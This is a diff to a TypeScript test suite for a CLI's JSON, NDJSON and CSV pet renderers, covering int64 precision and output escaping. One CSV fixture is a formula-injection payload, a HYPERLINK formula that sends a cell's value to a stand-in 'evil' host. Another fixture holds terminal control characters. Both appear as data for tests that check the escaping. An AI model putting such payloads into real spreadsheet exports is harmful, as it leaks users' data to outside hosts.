@@ -75,71 +75,65 @@ describe('table on a TTY', () => {
   });
 });
 
-describe('json and ndjson: every field the server sent, int64 exact', () => {
-  const withExtras: Pet = {
-    id: BIG_ID,
-    name: 'Goldie',
-    categoryId: 9223372036854775807n,
-    status: 'sold',
-    adoptedAt: '2025-01-02T03:04:05Z',
-    weightKg: new LosslessNumber('4.10000000000000000001'),
-    tags: ['fish', { colour: 'gold' }],
-  };
-  const single = [
-    '{',
-    '  "id": 9007199254740993,',
-    '  "name": "Goldie",',
-    '  "categoryId": 9223372036854775807,',
-    '  "status": "sold",',
-    '  "adoptedAt": "2025-01-02T03:04:05Z",',
-    '  "weightKg": 4.10000000000000000001,',
-    '  "tags": [',
-    '    "fish",',
-    '    {',
-    '      "colour": "gold"',
-    '    }',
-    '  ]',
-    '}',
+const withExtras: Pet = {
+  id: BIG_ID,
+  name: 'Goldie',
+  categoryId: 9223372036854775807n,
+  status: 'sold',
+  adoptedAt: '2025-01-02T03:04:05Z',
+  weightKg: new LosslessNumber('4.10000000000000000001'),
+  tags: ['fish', { colour: 'gold' }],
+};
+const single = [
+  '{',
+  '  "id": 9007199254740993,',
+  '  "name": "Goldie",',
+  '  "categoryId": 9223372036854775807,',
+  '  "status": "sold",',
+  '  "adoptedAt": "2025-01-02T03:04:05Z",',
+  '  "weightKg": 4.10000000000000000001,',
+  '  "tags": [',
+  '    "fish",',
+  '    {',
+  '      "colour": "gold"',
+  '    }',
+  '  ]',
+  '}',
+];
+
+test('json and ndjson: every field the server sent, int64 exact: a single pet: the object, 2-space indent, trailing newline; a list: the array; ndjson: a compact object a line', () => {
+  expect(renderPet(withExtras, 'json', PIPE)).toBe(`${single.join('\n')}\n`);
+  // No colour in JSON, even on a colour terminal.
+  expect(renderPets([withExtras], 'json', TTY_COLOUR)).toBe(`[\n${single.map((line) => `  ${line}`).join('\n')}\n]\n`);
+  const list: Pet[] = [
+    { id: 1, name: 'Rex', categoryId: 2, status: 'available' },
+    { id: BIG_ID, name: 'two\nlines', categoryId: 4, microchip: 'X1' },
   ];
-
-  test('a single pet: the object, 2-space indent, trailing newline; a list: the array; ndjson: a compact object a line', () => {
-    expect(renderPet(withExtras, 'json', PIPE)).toBe(`${single.join('\n')}\n`);
-    // No colour in JSON, even on a colour terminal.
-    expect(renderPets([withExtras], 'json', TTY_COLOUR)).toBe(`[\n${single.map((line) => `  ${line}`).join('\n')}\n]\n`);
-    const list: Pet[] = [
-      { id: 1, name: 'Rex', categoryId: 2, status: 'available' },
-      { id: BIG_ID, name: 'two\nlines', categoryId: 4, microchip: 'X1' },
-    ];
-    expect(renderPets(list, 'ndjson', TTY)).toBe(
-      '{"id":1,"name":"Rex","categoryId":2,"status":"available"}\n' +
-        '{"id":9007199254740993,"name":"two\\nlines","categoryId":4,"microchip":"X1"}\n',
-    );
-  });
+  expect(renderPets(list, 'ndjson', TTY)).toBe(
+    '{"id":1,"name":"Rex","categoryId":2,"status":"available"}\n' +
+      '{"id":9007199254740993,"name":"two\\nlines","categoryId":4,"microchip":"X1"}\n',
+  );
 });
 
-describe('csv', () => {
-  test("header, then rows; extra fields left out; names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
-    const list: Pet[] = [
-      { id: BIG_ID, name: 'Rex, "the" dog', categoryId: 2, status: 'available', extra: 'not in csv' },
-      { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: -3 },
-      { id: 3, name: '-2+3', categoryId: 1, status: 'sold' },
-    ];
-    const expected = `id,name,categoryId,status\n9007199254740993,"Rex, ""the"" dog",2,available\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,sold\n`;
-    expect(renderPets(list, 'csv', PIPE)).toBe(expected);
-    expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(expected);
-  });
+test("csv: header, then rows; extra fields left out; names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
+  const list: Pet[] = [
+    { id: BIG_ID, name: 'Rex, "the" dog', categoryId: 2, status: 'available', extra: 'not in csv' },
+    { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: -3 },
+    { id: 3, name: '-2+3', categoryId: 1, status: 'sold' },
+  ];
+  const expected = `id,name,categoryId,status\n9007199254740993,"Rex, ""the"" dog",2,available\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,sold\n`;
+  expect(renderPets(list, 'csv', PIPE)).toBe(expected);
+  expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(expected);
 });
 
-describe('json and ndjson on a terminal', () => {
-  const pet: Pet = { id: 1, name: 'Rex\u009b2J\u202e\u001b\u007f', categoryId: 2 };
+const pet: Pet = { id: 1, name: 'Rex\u009b2J\u202e\u001b\u007f', categoryId: 2 };
 
-  test('C1 and bidi controls are \\u escapes (JSON itself escapes C0): the same JSON value; piped, JSON.stringify\'s bytes', () => {
-    for (const out of [renderPets([pet], 'json', TTY_COLOUR), renderPet(pet, 'json', TTY_COLOUR), renderPets([pet], 'ndjson', TTY_COLOUR)]) {
-      expect(out).toContain('"Rex\\u009b2J\\u202e\\u001b\\u007f"');
-      expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
-      expect(JSON.stringify(JSON.parse(out))).toContain(JSON.stringify(pet.name));
-    }
-    expect(renderPets([pet], 'ndjson', PIPE)).toBe(`${JSON.stringify(pet)}\n`);
-    expect(renderPet(pet, 'json', PIPE)).toBe(`${JSON.stringify(pet, null, 2)}\n`);
-  });
+test('json and ndjson on a terminal: C1 and bidi controls are \\u escapes (JSON itself escapes C0): the same JSON value; piped, JSON.stringify\'s bytes', () => {
+  for (const out of [renderPets([pet], 'json', TTY_COLOUR), renderPet(pet, 'json', TTY_COLOUR), renderPets([pet], 'ndjson', TTY_COLOUR)]) {
+    expect(out).toContain('"Rex\\u009b2J\\u202e\\u001b\\u007f"');
+    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
+    expect(JSON.stringify(JSON.parse(out))).toContain(JSON.stringify(pet.name));
+  }
+  expect(renderPets([pet], 'ndjson', PIPE)).toBe(`${JSON.stringify(pet)}\n`);
+  expect(renderPet(pet, 'json', PIPE)).toBe(`${JSON.stringify(pet, null, 2)}\n`);
 });
